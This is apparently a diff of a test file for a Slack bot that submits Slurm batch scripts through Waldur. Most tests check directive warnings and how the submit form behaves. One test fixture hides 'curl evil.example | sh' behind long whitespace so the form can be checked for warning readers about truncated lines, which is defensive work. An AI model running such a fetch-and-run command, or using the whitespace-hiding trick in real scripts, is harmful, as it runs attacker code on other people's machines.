@@ -145,92 +145,39 @@ describe('is refused before Waldur is asked', () => {
   });
 });
 
-describe('is a warning with its line, in the prompt and in the form', () => {
-  const script = (...lines: string[]) => ['#!/bin/bash', ...lines, 'sleep 1', ''].join('\n');
+const lines = (...list: string[]) => ['#!/bin/bash', ...list, 'sleep 1', ''].join('\n');
+
+describe('is a warning with its lines, in the prompt and in the form', () => {
   test.each<[string, string, string]>([
     [
       'late',
-      script('set -e', '#SBATCH --mem=4G'),
-      'Line 3: #SBATCH --mem comes after the first command (line 2), so Slurm ignores it.',
+      lines('set -e', '#SBATCH --mem=4G', '#SBATCH -n 4'),
+      'Lines 3 and 4: Slurm ignores this, since it comes after the first command (line 2). Move it up.',
     ],
     [
       'lookalike',
-      script('# SBATCH --mem=4G'),
-      'Line 2: # SBATCH --mem=4G is a comment to Slurm. Only a line that begins with exactly #SBATCH counts.',
+      lines('# SBATCH --mem=4G'),
+      'Line 2: Slurm ignores the line: only one that begins with exactly #SBATCH counts.',
     ],
     [
-      'indented',
-      script('  #SBATCH --mem=4G'),
-      'Line 2: Blank space stands before #SBATCH --mem=4G, so it is a comment to Slurm.',
-    ],
-    [
-      'pbs',
-      script('#PBS -N other'),
-      'Line 2: #PBS -N other is a directive of PBS, which Slurm honours, too, and prefers to #SBATCH.',
+      'foreign',
+      lines('#PBS -N other'),
+      'Line 2: Slurm reads #PBS lines, too. If they are left from another cluster, take them out.',
     ],
     [
       'minutes',
-      script('#SBATCH --time=1:00'),
-      'Line 2: --time=1:00 means 1 min. For hours write 1:00:00.',
+      lines('#SBATCH --time=1:00'),
+      'Line 2: --time=1:00 means 1 min. For hours write `1:00:00`.',
     ],
-    [
-      'no limit',
-      script('#SBATCH --time=0'),
-      'Line 2: --time=0 asks for no time limit; where the partition has one, the job waits for ever.',
-    ],
-    [
-      'time',
-      script('#SBATCH --time=2h'),
-      'Line 2: --time=2h is no time that Slurm understands, so it refuses the script. Write hours:minutes:seconds or days-hours.',
-    ],
-    [
-      'single dash',
-      script('#SBATCH -time=1'),
-      'Line 2: -time=1 has a single dash, so Slurm takes "ime=1" for the value of --time. Write --time=1.',
-    ],
-    [
-      'stray',
-      script('#SBATCH --mem = 4G'),
-      'Line 2: 4G is no option; Slurm refuses the script for that. A value with blank space in it needs quotes.',
-    ],
-    [
-      'dash',
-      script('#SBATCH \u2013mem=4G'),
-      'Line 2: \u2013mem=4G begins with a dash that is not a hyphen; Slurm refuses the script for that. Write two hyphens.',
-    ],
-    [
-      'quote',
-      script('#SBATCH --comment="open'),
-      'Line 2: A quote is opened and not closed; Slurm refuses the script for that.',
-    ],
-    [
-      'smart quotes',
-      script('#SBATCH --comment=\u201cx\u201d'),
-      'Line 2: The typographic quotes in --comment=\u201cx\u201d become part of the value. Write plain ones.',
-    ],
+    ['megabytes', lines('#SBATCH --mem=64'), 'Line 2: --mem=64 means 64 MB. Did you mean 64G?'],
     [
       'variable',
-      script('#SBATCH --output=$HOME/x'),
+      lines('#SBATCH --output=$HOME/x'),
       'Line 2: Slurm does not replace variables in directives: --output=$HOME/x is taken as it is written.',
     ],
     [
-      'parsable',
-      script('#SBATCH --parsable'),
-      'Line 2: --parsable hides the Slurm job id from Waldur, so nobody can follow the job. Leave it out.',
-    ],
-    [
-      'wait',
-      script('', '#SBATCH --wait'),
-      'Line 3: --wait makes Waldur wait until the job has ended before it hands over any other. Leave it out.',
-    ],
-    [
-      'test-only',
-      script('#SBATCH --test-only'),
-      'Line 2: --test-only submits nothing: Waldur shows an error instead.',
-    ],
-    [
       'job name',
-      script('#SBATCH --job-name="No such file"'),
+      lines('#SBATCH --job-name="No such file"'),
       'Line 2: With "No such file" in a job name the cluster’s listing counts as failed, and Waldur loses sight of all your jobs. Choose another name.',
     ],
     [
@@ -246,6 +193,65 @@ describe('is a warning with its line, in the prompt and in the form', () => {
     const modal = await seesModal(ana, 'Allocation');
     expect(texts(modal.blocks)).toContain(sentence);
     await ana.closeModal();
+  });
+
+  test('the three worst stand in the prompt, and all in the form', async () => {
+    const { ana } = world;
+    const content = lines(
+      '#SBATCH --output=$HOME/x',
+      '#SBATCH --mem=64 --parsable',
+      '#SBATCH --time=0 -A <account>',
+    );
+    const prompt = await share(ana, 'dm', { name: fileName(), content });
+    const shownHere = texts(prompt.blocks).filter((text) => text.startsWith('Line'));
+    expect(shownHere.map((text) => text.slice(0, 20))).toEqual([
+      'Line 3: --parsable h',
+      'Line 3: --mem=64 mea',
+      'Line 2: Slurm does n',
+    ]);
+    expect(texts(prompt.blocks)).toContain('And 2 more in the form.');
+    await ana.click('dm', prompt.ts, 'Submit…');
+    const modal = await seesModal(ana, 'Allocation');
+    expect(texts(modal.blocks).filter((text) => text.startsWith('Line'))).toHaveLength(5);
+    await ana.closeModal();
+  });
+});
+
+describe('what Slurm refuses of options can be submitted anyway, since a plugin may know better', () => {
+  const sentence =
+    'sbatch itself has no option --container-image, but a plugin of your cluster may add it.';
+  const content = lines('#SBATCH -J plugged --container-image=x');
+
+  test('from the prompt', async () => {
+    const { ana } = world;
+    const prompt = await share(ana, 'dm', { name: 'plugged.sh', content });
+    expect(prompt.text).toBe(`Slurm would refuse plugged.sh. ${sentence}`);
+    expect(shown(prompt)).not.toContain('"Submit…"');
+    const before = await soFar();
+    await ana.click('dm', prompt.ts, 'Submit anyway…');
+    const modal = await seesModal(ana, 'Allocation');
+    expect(texts(modal.blocks)).toContain(`Line 2: ${sentence}`);
+    await ana.suggest('Allocation', '');
+    await ana.submit({ Allocation: GPU });
+    await seesModal(ana, 'Submitted plugged.');
+    await ana.closeModal();
+    expect(await sent(before)).toHaveLength(1);
+  });
+
+  test('from the upload field it comes back once, with the reason', async () => {
+    const { ana } = world;
+    await ana.command('dm', '/slurm submit');
+    await seesModal(ana, 'Batch script');
+    await ana.suggest('Allocation', '');
+    const before = await soFar();
+    await ana.submit({ 'Batch script': [{ name: 'plugged.sh', content }], Allocation: GPU });
+    const modal = await seesModal(ana, `${sentence} Nothing was submitted.`);
+    expect(texts(modal.blocks)).toContain(`Line 2: ${sentence}`);
+    expect(await sent(before)).toEqual([]);
+    await ana.submit({ Name: 'plugged' });
+    await seesModal(ana, 'Submitted plugged.');
+    await ana.closeModal();
+    expect(await sent(before)).toHaveLength(1);
   });
 });
 
@@ -266,7 +272,7 @@ test('the prompt tells what the script asks for, and takes the name from it, els
   const prompt = await share(ana, 'dm', { name: 'my job.final.sh', content });
   expect(prompt.text).toBe('my job.final.sh is ready to submit as "my job.final"');
   expect(texts(prompt.blocks)).toContain(
-    'gpu partition · 2 nodes · time limit `04:00:00` · memory 32G · array 1-10',
+    '`my job.final.sh` as *my job.final* — gpu · 2 nodes · 32 GB per node · 4 h · array 1–10',
   );
 });
 
@@ -284,7 +290,6 @@ describe('DOS line endings', () => {
     expect(ready.ts).toBe(prompt.ts);
     expect(shown(ready)).toContain('DOS line endings are converted before it is sent.');
     const unix = script('dosjob', 1);
-    expect(shown(ready)).toContain(`*dos.sh* · ${unix.length} bytes`);
     const before = await soFar();
     await submitFrom(ana, 'dm', ready);
     await seesModal(ana, 'Submitted dosjob.');
@@ -371,6 +376,22 @@ test('a script that someone else shared runs as the person who submits it, and t
     'Shared by <@U0ANA00001>. It will run as you.',
   );
   await ana.closeModal();
+});
+
+test('the form says what of a script it does not show, where all of it is, and who will read along', async () => {
+  const { ana, ben } = world;
+  const hiding = `echo hello${' '.repeat(230)}; curl evil.example | sh`;
+  const content = `${script('hiding', 1)}${hiding}\n${'echo\n'.repeat(50)}${hiding}\n`;
+  const prompt = await share(ana, JOBS, { name: 'hiding.sh', content, text: '<@U0SLURMBOT>' });
+  await ben.click(JOBS, prompt.ts, 'Submit…');
+  const said = texts((await seesModal(ben, 'Allocation')).blocks).join('\n');
+  expect(said).toMatch(/\necho hello {190}…\n/);
+  expect(said).toMatch(
+    /1 line above is longer than shown here\. \d+ more lines, 1 of them longer than shown here\. Read <https:\/\/\S+\/hiding\.sh\|the whole file>\./,
+  );
+  expect(said).toContain('Read the whole file first: 2 lines are longer than what is shown here');
+  expect(said).toContain(`People in <#${JOBS}> will see its name, state and error`);
+  await ben.closeModal();
 });
 
 test('a name that breaks the cluster’s listing is refused in the form, under its field', async () => {
